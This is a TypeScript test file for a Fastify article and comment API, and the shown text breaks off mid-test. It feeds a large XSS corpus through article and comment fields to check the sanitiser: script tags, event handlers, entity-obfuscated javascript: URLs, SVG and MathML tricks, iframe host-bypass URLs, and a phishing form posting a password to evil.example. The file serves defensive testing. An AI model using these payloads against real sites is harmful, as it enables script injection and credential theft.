import type { Element } from 'domhandler'
import type { FastifyInstance, LightMyRequestResponse } from 'fastify'
import { DomUtils, parseDocument } from 'htmlparser2'
import t, { type Test } from 'tap'
import { embedHosts } from '../../src/lib/html.js'
import { adminSecret, bearer, build, createArticle, createAuthor, request } from '../helper.js'

// XSS: a corpus of payloads through every field that stores HTML (article `body`, article
// `markdown`, comment `body`) and every plain-text field that a front end prints
// (article `title` and `excerpt`, comment `authorName`). The stored HTML is parsed with
// htmlparser2 (an independent parse of what the sanitiser produced) and checked for
// anything that can run script, load a document or send a form.

type Tap = Test

const problemBase = 'https://dateline.dev/problems/'

// --- The corpus ---------------------------------------------------------------------

interface Payload { name: string, html: string }

const svgOnload = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')
const htmlScript = Buffer.from('<script>alert(1)</script>').toString('base64')

const htmlPayloads: Payload[] = [
  // Script tags in many spellings
  { name: 'plain script', html: '<script>alert(1)</script>' },
  { name: 'upper-case SCRIPT', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'mixed-case script with src', html: '<ScRiPt src="https://evil.example/x.js"></ScRiPt>' },
  { name: 'script with slash-separated src', html: '<script/src=//evil.example/x.js></script>' },
  { name: 'script with newlines in the tags', html: '<script\n>alert(1)</script\n>' },
  { name: 'script with a type and a spaced end tag', html: '<script type="text/javascript">alert(1)</script >' },
  { name: 'double opening bracket', html: '<<script>alert(1);//<</script>' },
  { name: 'split script tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'unclosed script', html: '<p>before</p><script>alert(1)' },
  { name: 'script inside a paragraph', html: '<p>ok<script>alert(1)</script> still ok</p>' },
  { name: 'script in a comment', html: '<!--<script>alert(1)</script>-->' },
  { name: 'conditional comment', html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'comment closed early', html: '<!--><script>alert(1)</script>-->' },
  { name: 'comment closed early around an image', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'CDATA section', html: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'xml processing instruction', html: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'noscript title breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'xmp raw text', html: '<xmp><script>alert(1)</script></xmp>' },
  { name: 'template content', html: '<template><script>alert(1)</script></template>' },
  { name: 'closing title first', html: '</title><script>alert(1)</script>' },
  { name: 'textarea breakout', html: '<textarea></textarea><script>alert(1)</script></textarea>' },

  // Event handlers on many elements
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'IMG ONERROR upper-case', html: '<IMG SRC="https://ok.example/a.png" ONERROR="alert(1)">' },
  { name: 'spaced onerror and onload', html: '<img src="https://ok.example/a.png" onerror  =  "alert(1)" onload=alert(2)>' },
  { name: 'slash-separated img attributes', html: '<img/src="x"/onerror=alert(1)>' },
  { name: 'img src evaluated by onerror', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'body onload', html: '<body onload=alert(1)>text</body>' },
  { name: 'div onmouseover', html: '<div onmouseover="alert(1)">hover</div>' },
  { name: 'link onclick', html: '<a href="https://ok.example/" onclick="alert(1)">x</a>' },
  { name: 'paragraph onclick unquoted', html: '<p onclick=alert(1)//>x</p>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'input onfocus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'table cell onmouseover', html: '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</td></tr></table>' },
  { name: 'heading and list with handlers', html: '<h2 onclick="alert(1)">t</h2><ul><li onmouseenter="alert(2)">i</li></ul>' },
  { name: 'figure with handlers', html: '<figure onclick="alert(1)"><img src="https://ok.example/a.png" onload="alert(2)"><figcaption onmouseover="alert(3)">c</figcaption></figure>' },
  { name: 'quoted attribute hiding a handler', html: '<a href="https://ok.example/" title="&quot; onclick=&quot;alert(1)">x</a>' },

  // javascript:, vbscript: and data: URLs, with entity and whitespace tricks
  { name: 'javascript: href', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'mixed-case JaVaScRiPt: href', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'tab entity inside the scheme', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'newline entity inside the scheme', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'named newline entity inside the scheme', html: '<a href="jav&NewLine;ascript:alert(1)">x</a>' },
  { name: 'decimal entity for the first letter', html: '<a href="&#106;avascript:alert(1)">x</a>' },
  { name: 'hex entities for the whole scheme', html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>' },
  { name: 'padded entities without semicolons', html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>' },
  { name: 'leading control characters', html: '<a href=" &#14;  javascript:alert(1)">x</a>' },
  { name: 'leading tab entity', html: '<a href="&Tab;javascript:alert(1)">x</a>' },
  { name: 'null byte inside the scheme', html: '<a href="java\u0000script:alert(1)">x</a>' },
  { name: 'colon as a named entity', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'javascript: with a comment line', html: '<a href="javascript://%0Aalert(1)">x</a>' },
  { name: 'unquoted javascript: href', html: '<a href=javascript:alert(1)>x</a>' },
  { name: 'vbscript: href', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'VBScript: mixed case', html: '<a href="VBScript:msgbox(1)">x</a>' },
  { name: 'data: text/html base64 href', html: `<a href="data:text/html;base64,${htmlScript}">x</a>` },
  { name: 'DATA: upper-case href', html: '<a href="DATA:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'data: svg image', html: `<img src="data:image/svg+xml;base64,${svgOnload}">` },
  { name: 'data: png image', html: '<img src="data:image/png;base64,iVBORw0KGgo=">' },
  { name: 'javascript: image', html: '<img src="javascript:alert(1)">' },
  { name: 'javascript: in srcset', html: '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x, https://ok.example/b.png 2x">' },
  { name: 'data: as the second srcset candidate', html: `<img src="https://ok.example/a.png" srcset="https://ok.example/a.png 1x, data:image/svg+xml;base64,${svgOnload} 2x">` },
  { name: 'picture source with javascript: srcset', html: '<picture><source srcset="javascript:alert(1)"><img src="https://ok.example/a.png"></picture>' },
  { name: 'blockquote cite javascript:', html: '<blockquote cite="javascript:alert(1)">q</blockquote>' },
  { name: 'xlink:href on a link', html: '<a xlink:href="javascript:alert(1)">x</a>' },
  { name: 'form and formaction', html: '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button></form>' },

  // SVG and MathML
  { name: 'svg onload', html: '<svg onload=alert(1)>' },
  { name: 'svg with script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg link', html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>' },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { name: 'svg foreignObject iframe', html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>' },
  { name: 'svg set href', html: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>' },
  { name: 'math mglyph style mutation', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'math href', html: '<math href="javascript:alert(1)">CLICK</math>' },
  { name: 'math maction', html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>' },

  // Style tags and style attributes
  { name: 'style tag with url(javascript:)', html: '<style>body{background:url(javascript:alert(1))}</style><p>x</p>' },
  { name: 'STYLE tag with @import', html: '<STYLE>@import \'https://evil.example/x.css\';</STYLE><p>x</p>' },
  { name: 'style attribute with expression()', html: '<div style="width: expression(alert(1))">x</div>' },
  { name: 'style attribute with url(javascript:)', html: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style attribute with behavior', html: '<p style="behavior: url(x.htc)">x</p>' },
  { name: 'style attribute with an entity-split expression', html: '<p style="width: exp&#x72;ession(alert(1))">x</p>' },
  { name: 'stylesheet link', html: '<link rel="stylesheet" href="javascript:alert(1)">' },

  // object, embed, base, meta refresh, form, and friends
  { name: 'object with javascript: data', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'object scriptlet', html: '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>' },
  { name: 'embed javascript:', html: '<embed src="javascript:alert(1)">' },
  { name: 'embed data: svg', html: `<embed src="data:image/svg+xml;base64,${svgOnload}">` },
  { name: 'applet', html: '<applet code="X.class" codebase="https://evil.example/"></applet>' },
  { name: 'base href', html: '<base href="javascript:alert(1)//"><a href="x">x</a>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'phishing form', html: '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>' },
  { name: 'isindex', html: '<isindex action="javascript:alert(1)" type="submit">' },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },

  // iframes: srcdoc and hosts that are not on the list
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'allowed iframe with srcdoc', html: '<iframe src="https://www.youtube.com/embed/x" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'iframe from another host', html: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'iframe from a look-alike host', html: '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>' },
  { name: 'iframe with userinfo', html: '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>' },
  { name: 'iframe with a backslash', html: '<iframe src="https://evil.example\\@www.youtube.com/embed/x"></iframe>' },
  { name: 'protocol-relative iframe', html: '<iframe src="//evil.example/x"></iframe>' },
  { name: 'javascript: iframe', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'data: iframe', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
  { name: 'iframe with onload', html: '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>' },

  // Malformed nesting
  { name: 'script inside an unterminated start tag', html: '<a href="https://ok.example/"<script>alert(1)</script>x</a>' },
  { name: 'img tag left open', html: '<img src="https://ok.example/a.png" alt="x" <script>alert(1)</script>' },
  { name: 'unclosed tags with a handler', html: '<div><p>unclosed <b>bold <i onclick=alert(1)>italic' },
  { name: 'double bracket img', html: '<<img src=x onerror=alert(1)//<' },
  { name: 'quote juggling', html: '<img src=x" onerror="alert(1)">' },
  { name: 'attribute without a value before a handler', html: '<a href onclick=alert(1)>x</a>' },

  // Template injection: stays text, never evaluated
  { name: 'template expressions', html: '<p>{{7*7}} ${7*7} <%= 7*7 %> #{7*7}</p>' },
  { name: 'angular sandbox escape', html: '<p>{{constructor.constructor(\'alert(1)\')()}}</p>' }
]

const markdownPayloads: Payload[] = [
  { name: 'markdown javascript: link', html: '[x](javascript:alert(1))' },
  { name: 'markdown JAVASCRIPT: link', html: '[x](JAVASCRIPT:alert(1))' },
  { name: 'markdown link with an entity in the scheme', html: '[x](&#106;avascript:alert(1))' },
  { name: 'markdown link with a tab entity', html: '[x](jav&#x09;ascript:alert(1))' },
  { name: 'markdown link in angle brackets', html: '[x](<javascript:alert(1)>)' },
  { name: 'markdown vbscript: link', html: '[x](vbscript:msgbox(1))' },
  { name: 'markdown data: link', html: `[x](data:text/html;base64,${htmlScript})` },
  { name: 'markdown data: svg image', html: `![x](data:image/svg+xml;base64,${svgOnload})` },
  { name: 'markdown data: png image', html: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'markdown javascript: image', html: '![x](javascript:alert(1))' },
  { name: 'markdown reference link', html: '[x][ref]\n\n[ref]: javascript:alert(1)' },
  { name: 'markdown autolink', html: '<javascript:alert(1)>' },
  { name: 'markdown title breaking out', html: '[x](https://ok.example/ "a\\" onclick=\\"alert(1)")' },
  { name: 'markdown alt breaking out', html: '![x" onerror="alert(1)](https://ok.example/a.png)' },
  { name: 'bare javascript: text (linkify)', html: 'See javascript:alert(1) and www.example.org' },
  { name: 'raw script in markdown', html: 'Intro\n\n<script>alert(1)</script>\n\nOutro' },
  { name: 'raw inline img in markdown', html: 'Text <img src=x onerror=alert(1)> more' },
  { name: 'raw html block with a foreign iframe', html: '<div>\n<iframe src="https://evil.example/"></iframe>\n</div>' },
  { name: 'raw html link inside emphasis', html: '*<a href="javascript:alert(1)">x</a>*' },
  { name: 'code spans and blocks stay text', html: '`<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```' }
]

// --- What "none survives" means, checked on an independent parse -------------------

const forbiddenTags = new Set([
  'script', 'style', 'iframe', 'object', 'embed', 'svg', 'math', 'base', 'meta', 'form', 'link',
  'frame', 'frameset', 'applet', 'noscript', 'template', 'textarea', 'input', 'button', 'select',
  'option', 'isindex', 'xmp', 'plaintext', 'noembed', 'noframes', 'title', 'head', 'body', 'html',
  'audio', 'video', 'track', 'portal', 'marquee', 'details', 'animate', 'set', 'foreignobject'
])
const urlAttributes = new Set([
  'href', 'src', 'srcset', 'action', 'formaction', 'cite', 'data', 'poster', 'background',
  'xlink:href', 'lowsrc', 'dynsrc', 'longdesc', 'codebase', 'ping', 'manifest', 'to', 'values', 'from'
])
const scriptSchemes = ['javascript:', 'vbscript:', 'data:']

/** A URL as a browser reads its scheme: entities are decoded by the parser; whitespace and controls go. */
function schemeless (value: string): string {
  return value.replace(/[\u0000-\u0020\u007f-\u009f\u00a0\u1680\u2000-\u200f\u2028\u2029\u202f\u205f\u3000\ufeff]+/g, '').toLowerCase()
}

function urlsOf (name: string, value: string): string[] {
  if (name !== 'srcset') return [value]
  return value.split(',').map((candidate) => candidate.trim().split(/\s+/)[0] ?? '')
}

function elementsOf (html: string): Element[] {
  return DomUtils.findAll(() => true, parseDocument(html).children)
}

function textOf (html: string): string {
  return DomUtils.textContent(parseDocument(html).children)
}

interface Context { allowIframes: boolean }

/** Every way the HTML could run script or load something it shouldn't; empty when safe. */
function dangers (html: string, context: Context): string[] {
  const found: string[] = []
  for (const element of elementsOf(html)) {
    const tag = element.name.toLowerCase()
    if (tag === 'iframe' && context.allowIframes) {
      const src = element.attribs.src
      let allowed = false
      try {
        const url = new URL(src ?? '')
        allowed = url.protocol === 'https:' && embedHosts.includes(url.hostname) && url.username === '' && url.password === ''
      } catch {}
      if (!allowed) found.push(`<iframe src="${src}"> from a host that is not allowed`)
      if ('srcdoc' in element.attribs) found.push('<iframe srcdoc>')
    } else if (forbiddenTags.has(tag)) {
      found.push(`<${tag}> element`)
    }
    for (const [rawName, value] of Object.entries(element.attribs)) {
      const name = rawName.toLowerCase()
      if (name.startsWith('on')) found.push(`${name} attribute on <${tag}>`)
      if (name === 'srcdoc') found.push(`srcdoc attribute on <${tag}>`)
      if (urlAttributes.has(name) || name.endsWith(':href')) {
        for (const url of urlsOf(name, value)) {
          const bare = schemeless(url)
          const scheme = scriptSchemes.find((candidate) => bare.startsWith(candidate))
          if (scheme !== undefined) found.push(`${name}="${value}" (${scheme}) on <${tag}>`)
        }
      }
      if (name === 'style') {
        const css = schemeless(value.replace(/\/\*[\s\S]*?\*\//g, '').replace(/\\/g, ''))
        if (/expression\(|javascript:|vbscript:|url\(|behavior:|-moz-binding|@import/.test(css)) found.push(`style="${value}" on <${tag}>`)
      }
      if (name === 'http-equiv') found.push(`http-equiv on <${tag}>`)
    }
  }
  return found
}

// Comments get a small fixed subset (issue 4): anything else is a failure too.
const commentTags = new Set(['p', 'br', 'a', 'em', 'i', 'strong', 'b', 'code', 'pre', 'blockquote', 'q'])

function commentDangers (html: string): string[] {
  const found = dangers(html, { allowIframes: false })
  for (const element of elementsOf(html)) {
    if (!commentTags.has(element.name)) found.push(`<${element.name}> is not allowed in comments`)
    for (const name of Object.keys(element.attribs)) {
      if (!(element.name === 'a' && (name === 'href' || name === 'rel'))) found.push(`${name} attribute on <${element.name}> in a comment`)
    }
    if (element.name === 'a') {
      if (element.attribs.rel !== 'nofollow ugc noopener') found.push(`a link with rel="${element.attribs.rel}"`)
      const href = element.attribs.href
      if (href !== undefined && !/^(https?:|mailto:)/i.test(href)) found.push(`a link to ${href}`)
    }
  }
  return found
}

// --- Fixtures -----------------------------------------------------------------------

// One app for the whole file. The corpus posts many comments on one article, so the rate
// limit is raised (it is not what is tested here), and comments are approved at once so
// that the public list shows them too.
const app = await build(t, { commentRateLimit: 100_000, commentsAutoApprove: true })
const author = await createAuthor(app, t, { name: 'Ada Reporter' })
const article = await createArticle(app, t, { title: 'Comments welcome', authorId: author.id, status: 'published' })

async function postArticle (app: FastifyInstance, t: Tap, payload: Record<string, unknown>): Promise<LightMyRequestResponse> {
  return request(app, t, { method: 'POST', url: '/v1/articles', headers: bearer(adminSecret), payload })
}

async function readArticle (app: FastifyInstance, t: Tap, id: number): Promise<Record<string, any>> {
  const response = await request(app, t, { method: 'GET', url: `/v1/articles/${id}`, headers: bearer(adminSecret) })
  t.equal(response.statusCode, 200)
  return response.json()
}

/** Creates an article from `field: source`, then checks the answer and the stored copy. */
async function assertArticleSafe (app: FastifyInstance, t: Tap, authorId: number, field: 'body' | 'markdown', payload: Payload): Promise<void> {
  const response = await postArticle(app, t, { title: `XSS ${payload.name}`, authorId, status: 'published', [field]: payload.html })
  t.equal(response.statusCode, 201, `${payload.name}: accepted`, { body: response.body })
  const created = response.json()
  t.same(dangers(created.body, { allowIframes: true }), [], `${payload.name}: nothing dangerous in the answer`, { stored: created.body })
  const stored = await readArticle(app, t, created.id)
  t.equal(stored.body, created.body, `${payload.name}: the stored body is the one answered`)
  t.same(dangers(stored.body, { allowIframes: true }), [], `${payload.name}: nothing dangerous stored`, { stored: stored.body })
}

// --- Tests --------------------------------------------------------------------------

t.test('the corpus is large and varied', async (t) => {
  t.ok(htmlPayloads.length >= 40, `${htmlPayloads.length} HTML payloads`)
  t.ok(markdownPayloads.length >= 15, `${markdownPayloads.length} Markdown payloads`)
  t.equal(new Set([...htmlPayloads, ...markdownPayloads].map((payload) => payload.name)).size, htmlPayloads.length + markdownPayloads.length, 'names are unique')
  // The checker itself finds what it is meant to find (so a pass means something).
  t.ok(dangers('<script>x</script>', { allowIframes: true }).length > 0)
  t.ok(dangers('<a href="jav&#x09;ascript:x">x</a>', { allowIframes: true }).length > 0)
  t.ok(dangers('<a href="&#106;avascript:x">x</a>', { allowIframes: true }).length > 0)
  t.ok(dangers('<img src="x" srcset="https://a/b.png 1x, data:image/png,x 2x">', { allowIframes: true }).length > 0)
  t.ok(dangers('<p OnClick="x">x</p>', { allowIframes: true }).length > 0)
  t.ok(dangers('<iframe src="https://evil.example/"></iframe>', { allowIframes: true }).length > 0)
  t.same(dangers('<iframe src="https://www.youtube.com/embed/x"></iframe>', { allowIframes: true }), [])
  t.ok(dangers('<iframe src="https://www.youtube.com/embed/x"></iframe>', { allowIframes: false }).length > 0)
})

t.test('article bodies (HTML): no payload survives', async (t) => {
  for (const payload of htmlPayloads) await assertArticleSafe(app, t, author.id, 'body', payload)
})

t.test('article bodies written as Markdown: no payload survives, Markdown syntax or raw HTML', async (t) => {
  for (const payload of [...markdownPayloads, ...htmlPayloads]) await assertArticleSafe(app, t, author.id, 'markdown', payload)
})

t.test('changing an article\'s body with PATCH sanitises it the same way', async (t) => {
  const article = await createArticle(app, t, { title: 'Patched', authorId: author.id, status: 'published' })
  for (const payload of htmlPayloads.filter((_, i) => i % 4 === 0)) {
    const response = await request(app, t, { method: 'PATCH', url: `/v1/articles/${article.id}`, headers: bearer(adminSecret), payload: { body: payload.html } })
    t.equal(response.statusCode, 200, `${payload.name}: patched`)
    const stored = await readArticle(app, t, article.id)
    t.same(dangers(stored.body, { allowIframes: true }), [], `${payload.name}: nothing dangerous stored`, { stored: stored.body })
  }
  for (const payload of markdownPayloads.filter((_, i) => i % 3 === 0)) {
    const response = await request(app, t, { method: 'PATCH', url: `/v1/articles/${article.id}`, headers: bearer(adminSecret), payload: { markdown: payload.html } })
    t.equal(response.statusCode, 200, `${payload.name}: patched`)
    const stored = await readArticle(app, t, article.id)
    t.same(dangers(stored.body, { allowIframes: true }), [], `${payload.name}: nothing dangerous stored`, { stored: stored.body })
  }
})

t.test('template expressions stay literal text in bodies', async (t) => {
  const created = await createArticle(app, t, { title: 'Templates', authorId: author.id, body: '<p>{{7*7}} ${7*7} <%= 7*7 %> #{7*7}</p>' })
  t.equal(textOf(created.body), '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}')
  t.notMatch(created.body, /49/)
})

t.test('comment bodies: no payload survives (or the comment is refused for having no text left)', async (t) => {
  let refused = 0
  for (const payload of [...htmlPayloads, ...markdownPayloads]) {
    const response = await request(app, t, {
      method: 'POST',
      url: `/v1/articles/${article.id}/comments`,
      payload: { authorName: 'A reader', body: payload.html }
    })
    if (response.statusCode === 400) {
      // A body that is nothing but unsafe markup is refused, naming the field.
      refused++
      t.match(String(response.headers['content-type']), /^application\/problem\+json/)
      t.equal(response.json().type, `${problemBase}validation`)
      t.same(response.json().errors, [{ path: 'body.body', message: 'has no text once unsafe markup is removed' }], `${payload.name}: refused, naming body.body`)
      continue
    }
    t.equal(response.statusCode, 201, `${payload.name}: accepted`, { body: response.body })
    const created = response.json()
    t.same(commentDangers(created.body), [], `${payload.name}: nothing unsafe in the answer`, { stored: created.body })
    const stored = await request(app, t, { method: 'GET', url: `/v1/comments/${created.id}`, headers: bearer(adminSecret) })
    t.equal(stored.statusCode, 200)
    t.equal(stored.json().body, created.body, `${payload.name}: the stored body is the one answered`)
    t.same(commentDangers(stored.json().body), [], `${payload.name}: nothing unsafe stored`, { stored: stored.json().body })
  }
  t.ok(refused < htmlPayloads.length, 'most payloads leave some text and are stored sanitised')
  const listed = await request(app, t, { method: 'GET', url: `/v1/articles/${article.id}/comments?limit=100` })
  for (const comment of listed.json().data) t.same(commentDangers(comment.body), [], `comment ${comment.id} is safe in the public list`)
})

t.test('an editor editing a comment body gets the same sanitising', async (t) => {
  const created = await request(app, t, { method: 'POST', url: `/v1/articles/${article.id}/comments`, payload: { authorName: 'A reader', body: 'Fine words.' } })
  const id = created.json().id
  for (const payload of htmlPayloads.filter((_, i) => i % 5 === 0)) {
    const response = await request(app, t, { method: 'PATCH', url: `/v1/comments/${id}`, headers: bearer(adminSecret), payload: { body: `Kept text. ${payload.html}` } })
    t.equal(response.statusCode, 200, `${payload.name}: edited`)
    t.same(commentDangers(response.json().body), [], `${payload.name}: nothing unsafe stored`, { stored: response.json().body })
    t.match(textOf(response.json().body), /Kept text\./)
  }
})

t.test('comment links keep only http(s) and mailto hrefs: relative hrefs are dropped too', async (t) => {
  for (const href of ['x', '/v1/tokens', '?next=https://evil.example/', '#top', './logout']) {
    const response = await request(app, t, { method: 'POST', url: `/v1/articles/${article.id}/comments`, payload: { authorName: 'A reader', body: `<p>see <a href="${href}">this</a></p>` } })
    t.equal(response.statusCode, 201)
    const link = elementsOf(response.json().body).find((element) => element.name === 'a')
    t.equal(link?.attribs.href, undefined, `href="${href}" is not kept`, { stored: response.json().body })
    t.match(textOf(response.json().body), /see this/, 'the text is kept')
  }
})

t.test('comment authorUrl accepts only http(s)', async (t) => {
  const article = await createArticle(app, t, { title: 'Author URLs', authorId: author.id, status: 'published' })
  for (const url of ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', ' javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'jav\tascript:alert(1)', '//evil.example/', 'https://ok.example/" onmouseover="alert(1)']) {
    const response = await request(app, t, { method: 'POST', url: `/v1/articles/${article.id}/comments`, payload: { authorName: 'A reader', body: 'Hi', authorUrl: url } })
    t.equal(response.statusCode, 400, `${JSON.stringify(url)} is refused`)
    t.equal(response.json().errors?.[0]?.path, 'body.authorUrl')
  }
  const list = await request(app, t, { method: 'GET', url: `/v1/comments?article=${article.id}`, headers: bearer(adminSecret) })
  t.equal(list.json().meta.total, 0, 'nothing was stored')
})

// Plain-text fields: the payload itself comes back, character for character, as a JSON
// string — never parsed, escaped into HTML, or stripped.
const plainTextPayloads = [...htmlPayloads, ...markdownPayloads]
  .map((payload) => payload.html)
  .filter((text) => text === text.replace(/\s+/g, ' ').trim() && !/[\u0000-\u001f]/.test(text))
  .concat(['{{7*7}}', '${alert(1)}', '<%= 7*7 %>', '\'"><svg/onload=alert(1)>', '</script><script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#106;avascript:alert(1)'])

function assertJsonAnswer (t: Tap, response: LightMyRequestResponse): void {
  t.match(String(response.headers['content-type']), /^application\/json/, 'answered as application/json')
  t.equal(response.headers['x-content-type-options'], 'nosniff', 'and never sniffed as HTML')
}

t.test('article title and excerpt are plain text: each payload comes back exactly as given', async (t) => {
  t.ok(plainTextPayloads.length >= 40, `${plainTextPayloads.length} plain-text payloads`)
  for (const text of plainTextPayloads.filter((text) => text.length <= 300)) {
    const response = await postArticle(app, t, { title: text, excerpt: text, authorId: author.id, status: 'published', body: '<p>Body.</p>' })
    t.equal(response.statusCode, 201, `${text}: accepted`, { body: response.body })
    assertJsonAnswer(t, response)
    const created = response.json()
    t.equal(created.title, text, `${text}: title as given`)
    t.equal(created.excerpt, text, `${text}: excerpt as given`)
    t.ok(response.body.includes(JSON.stringify(text)), `${text}: a plain JSON string in the raw answer`)
    const single = await request(app, t, { method: 'GET', url: `/v1/articles/${created.id}` })
    assertJsonAnswer(t, single)
    t.equal(single.json().title, text)
    t.equal(single.json().excerpt, text)
  }
  // Every page of the public list, walked by cursor.
  const titles = new Set<string>()
  let url: string | null = '/v1/articles?limit=100&fields=title,excerpt'
  while (url !== null) {
    const page: LightMyRequestResponse = await request(app, t, { method: 'GET', url })
    assertJsonAnswer(t, page)
    for (const article of page.json().data) titles.add(article.title)
    const next: string | null = page.json().meta.nextCursor
    url = next === null ? null : `/v1/articles?limit=100&fields=title,excerpt&cursor=${next}`
  }
  for (const text of plainTextPayloads.filter((text) => text.length <= 300)) t.ok(titles.has(text), `${text}: listed as given`)
})

t.test('comment authorName is plain text: each payload comes back exactly as given', async (t) => {
  const article = await createArticle(app, t, { title: 'Names', authorId: author.id, status: 'published' })
  const names = plainTextPayloads.filter((text) => text.length <= 100)
  t.ok(names.length >= 30, `${names.length} names`)
  for (const name of names) {
    const response = await request(app, t, { method: 'POST', url: `/v1/articles/${article.id}/comments`, payload: { authorName: name, body: 'Hello.' } })
    t.equal(response.statusCode, 201, `${name}: accepted`, { body: response.body })
    assertJsonAnswer(t, response)
    t.equal(response.json().authorName, name, `${name}: as given`)
    t.ok(response.body.includes(JSON.stringify(name)), `${name}: a plain JSON string in the raw answer`)
    const stored = await request(app, t, { method: 'GET', url: `/v1/comments/${response.json().id}`, headers: bearer(adminSecret) })
    t.equal(stored.json().authorName, name)
  }
  const list = await request(app, t, { method: 'GET', url: `/v1/articles/${article.id}/comments?limit=100` })
  assertJsonAnswer(t, list)
  t.same(list.json().data.map((comment: { authorName: string }) => comment.authorName), names.slice(0, 100), 'the public list shows every name as given')
})

// --- What editors legitimately write survives ----------------------------------------

/** Tag names, attributes and text of every element, to compare two fragments by structure. */
function structure (html: string): unknown[] {
  return elementsOf(html).map((element) => [element.name, { ...element.attribs }, DomUtils.textContent(element).trim()])
}

t.test('legitimate article markup survives intact', async (t) => {
  const cases: Array<{ name: string, html: string }> = [
    { name: 'headings and paragraphs', html: '<h2>The vote</h2><p>The council voted <strong>7 to 2</strong> on <em>Tuesday</em>.</p><h3>What next</h3>' },
    { name: 'lists', html: '<ul><li>One</li><li>Two</li></ul><ol start="3"><li>Three</li></ol>' },
    { name: 'a table', html: '<table><caption>Votes</caption><thead><tr><th scope="col">Party</th><th scope="col">Seats</th></tr></thead><tbody><tr><td>Greens</td><td>4</td></tr></tbody></table>' },
    { name: 'a figure with an https image', html: '<figure><img src="https://images.example.org/bridge.jpg" alt="The bridge" width="800" height="600" /><figcaption>The planned bridge</figcaption></figure>' },
    { name: 'a blockquote with cite', html: '<blockquote cite="https://example.org/speech"><p>We will build it.</p></blockquote>' },
    { name: 'a YouTube embed', html: '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315" title="Video" allowfullscreen></iframe>' },
    { name: 'a Vimeo embed', html: '<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360"></iframe>' },
    { name: 'links', html: '<p><a href="https://example.org/report" title="Report">the report</a> and <a href="mailto:desk@example.org">mail us</a></p>' },
    { name: 'code', html: '<pre><code class="language-js">if (a &lt; b) {}</code></pre>' }
  ]
  for (const { name, html } of cases) {
    const created = await createArticle(app, t, { title: name, authorId: author.id, body: html })
    t.same(structure(created.body), structure(html), `${name}: kept`, { stored: created.body })
    t.same(dangers(created.body, { allowIframes: true }), [])
  }

  const blank = await createArticle(app, t, { title: 'New tab', authorId: author.id, body: '<p><a href="https://example.org/" target="_blank">out</a></p>' })
  const link = elementsOf(blank.body).find((element) => element.name === 'a')!
  t.equal(link.attribs.href, 'https://example.org/')
  t.equal(link.attribs.target, '_blank')
  t.equal(link.attribs.rel, 'noopener noreferrer', 'a new-tab link gets rel="noopener noreferrer"')

  for (const html of ['<a href="https://example.org/" target="_BLANK" rel="opener">out</a>', '<a href="https://example.org/" target="_blank" rel="opener noreferrer">out</a>']) {
